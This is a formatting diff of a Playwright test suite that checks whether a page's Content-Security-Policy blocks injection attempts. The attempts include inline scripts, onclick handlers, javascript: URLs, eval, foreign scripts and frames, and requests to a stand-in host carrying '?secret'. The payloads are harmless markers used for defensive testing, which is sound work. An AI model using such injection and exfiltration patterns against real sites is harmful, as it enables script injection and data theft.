@@ -13,11 +13,17 @@ test.use({ allowed: anyOf(FORBIDDEN, /^content-security policy: |elsewhere\.exam
 /** What somebody who could write into the page would try, and which directive is to forbid it. */
 const BREACHES: { what: string; directive: string; breach: () => void }[] = [
   {
-    what: 'an inline script', directive: 'script-src-elem',
-    breach: () => { document.body.append(Object.assign(document.createElement('script'), { textContent: 'document.documentElement.dataset.harm = 1' })); },
+    what: 'an inline script',
+    directive: 'script-src-elem',
+    breach: () => {
+      document.body.append(
+        Object.assign(document.createElement('script'), { textContent: 'document.documentElement.dataset.harm = 1' }),
+      );
+    },
   },
   {
-    what: 'a handler in the markup', directive: 'script-src-attr',
+    what: 'a handler in the markup',
+    directive: 'script-src-attr',
     breach: () => {
       const made = document.createElement('button');
       made.setAttribute('onclick', 'document.documentElement.dataset.harm = 1');
@@ -26,7 +32,8 @@ const BREACHES: { what: string; directive: string; breach: () => void }[] = [
     },
   },
   {
-    what: 'a javascript: address', directive: 'script-src-elem',
+    what: 'a javascript: address',
+    directive: 'script-src-elem',
     breach: () => {
       const made = Object.assign(document.createElement('a'), { href: 'javascript:document.documentElement.dataset.harm=1' });
       document.body.append(made);
@@ -34,36 +41,64 @@ const BREACHES: { what: string; directive: string; breach: () => void }[] = [
     },
   },
   {
-    what: 'eval', directive: 'script-src',
+    what: 'eval',
+    directive: 'script-src',
     // Later, because what a test calls itself may.
-    breach: () => { setTimeout(() => { try { (0, eval)('document.documentElement.dataset.harm = 1'); } catch { /* forbidden */ } }); },
+    breach: () => {
+      setTimeout(() => {
+        try {
+          (0, eval)('document.documentElement.dataset.harm = 1');
+        } catch {
+          /* forbidden */
+        }
+      });
+    },
   },
   {
-    what: 'a script of another host', directive: 'script-src-elem',
-    breach: () => { document.body.append(Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/x.js' })); },
+    what: 'a script of another host',
+    directive: 'script-src-elem',
+    breach: () => {
+      document.body.append(Object.assign(document.createElement('script'), { src: 'https://elsewhere.example/x.js' }));
+    },
   },
   {
-    what: 'an inline style sheet', directive: 'style-src-elem',
-    breach: () => { document.body.append(Object.assign(document.createElement('style'), { textContent: 'html { opacity: 0.5 }' })); },
+    what: 'an inline style sheet',
+    directive: 'style-src-elem',
+    breach: () => {
+      document.body.append(Object.assign(document.createElement('style'), { textContent: 'html { opacity: 0.5 }' }));
+    },
   },
   {
-    what: 'a style in the markup', directive: 'style-src-attr',
-    breach: () => { document.documentElement.setAttribute('style', 'opacity: 0.5'); },
+    what: 'a style in the markup',
+    directive: 'style-src-attr',
+    breach: () => {
+      document.documentElement.setAttribute('style', 'opacity: 0.5');
+    },
   },
   {
-    what: 'a question to another host', directive: 'connect-src',
-    breach: () => { fetch('https://elsewhere.example/?secret').catch(() => {}); },
+    what: 'a question to another host',
+    directive: 'connect-src',
+    breach: () => {
+      fetch('https://elsewhere.example/?secret').catch(() => {});
+    },
   },
   {
-    what: 'a picture of another host', directive: 'img-src',
-    breach: () => { document.body.append(Object.assign(document.createElement('img'), { src: 'https://elsewhere.example/?secret' })); },
+    what: 'a picture of another host',
+    directive: 'img-src',
+    breach: () => {
+      document.body.append(Object.assign(document.createElement('img'), { src: 'https://elsewhere.example/?secret' }));
+    },
   },
   {
-    what: 'a frame of another host', directive: 'frame-src',
-    breach: () => { document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/' })); },
+    what: 'a frame of another host',
+    directive: 'frame-src',
+    breach: () => {
+      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/' }));
+    },
   },
   {
-    what: 'a form sent to another host', directive: 'form-action',
+    what: 'a form sent to another host',
+    directive: 'form-action',
     breach: () => {
       const made = Object.assign(document.createElement('form'), { action: 'https://elsewhere.example/' });
       document.body.append(made);
@@ -71,8 +106,11 @@ const BREACHES: { what: string; directive: string; breach: () => void }[] = [
     },
   },
   {
-    what: 'another base of all addresses', directive: 'base-uri',
-    breach: () => { document.head.prepend(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' })); },
+    what: 'another base of all addresses',
+    directive: 'base-uri',
+    breach: () => {
+      document.head.prepend(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' }));
+    },
   },
 ];
 
@@ -103,7 +141,11 @@ for (const { name, host } of [
         page.on('response', (response) => asked.push(response.url()));
         await context.route(`${FOREIGN}/**`, (route) => {
           asked.push(route.request().url());
-          return route.fulfill({ headers: { 'access-control-allow-origin': '*' }, contentType: 'text/javascript', body: 'document.documentElement.dataset.harm = 1' });
+          return route.fulfill({
+            headers: { 'access-control-allow-origin': '*' },
+            contentType: 'text/javascript',
+            body: 'document.documentElement.dataset.harm = 1',
+          });
         });
         await page.goto(address);
         await expect(page.locator('body')).toContainText('8.4 × 10²³ FLOP');
@@ -112,8 +154,13 @@ for (const { name, host } of [
             expect(await violated(page, breach)).toBe(directive);
           });
         }
-        expect(await page.evaluate(() => [document.documentElement.dataset.harm, getComputedStyle(document.documentElement).opacity, document.baseURI]))
-          .toEqual([undefined, '1', page.url()]);
+        expect(
+          await page.evaluate(() => [
+            document.documentElement.dataset.harm,
+            getComputedStyle(document.documentElement).opacity,
+            document.baseURI,
+          ]),
+        ).toEqual([undefined, '1', page.url()]);
         expect(asked.filter((url) => !url.startsWith(baseURL!))).toEqual([]);
       });
     }
@@ -135,15 +182,26 @@ test.describe('a worker, with headers', () => {
     await expect(page.locator('#hub')).toBeVisible();
     const worker = await started;
     const tried = await worker.evaluate(async () => {
-      const ask = (url: string) => fetch(url).then(() => 'answered', () => 'refused');
-      const evaluated = new Promise((resolve) => setTimeout(() => {
-        try {
-          resolve((0, eval)('1'));
-        } catch (error) {
-          resolve((error as Error).name);
-        }
-      }));
-      return [await ask('https://huggingface.co/x'), await ask('https://elsewhere.example/?secret'), await ask('https://cdn.huggingface.co/'), await evaluated];
+      const ask = (url: string) =>
+        fetch(url).then(
+          () => 'answered',
+          () => 'refused',
+        );
+      const evaluated = new Promise((resolve) =>
+        setTimeout(() => {
+          try {
+            resolve((0, eval)('1'));
+          } catch (error) {
+            resolve((error as Error).name);
+          }
+        }),
+      );
+      return [
+        await ask('https://huggingface.co/x'),
+        await ask('https://elsewhere.example/?secret'),
+        await ask('https://cdn.huggingface.co/'),
+        await evaluated,
+      ];
     });
     expect(tried).toEqual(['answered', 'refused', 'refused', 'EvalError']);
     expect(asked).toEqual(['https://huggingface.co/x']);
